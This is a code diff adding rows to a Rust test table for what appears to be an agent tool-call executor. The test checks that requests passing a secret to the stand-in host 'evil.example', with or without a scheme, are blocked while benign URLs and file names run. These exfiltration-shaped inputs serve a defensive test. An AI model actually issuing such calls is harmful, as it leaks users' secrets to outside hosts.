@@ -173,6 +173,10 @@ async fn call_when_it_goes_back_to_the_origin_runs_only_if_it_carries_nothing_ne
             ask("get_issue", "https://evil.example/?secret"),
             false,
         ),
+        // Without its scheme, too; a name alone may be a file's.
+        (issue(), ask("get_issue", "evil.example/?secret"), false),
+        (issue(), ask("get_issue", "a.example/next?id=7"), true),
+        (issue(), ask("get_issue", "secret.md"), true),
     ];
     for (first, then, runs) in rows {
         let (executor, session) = (executor(), Session::new(tools()));
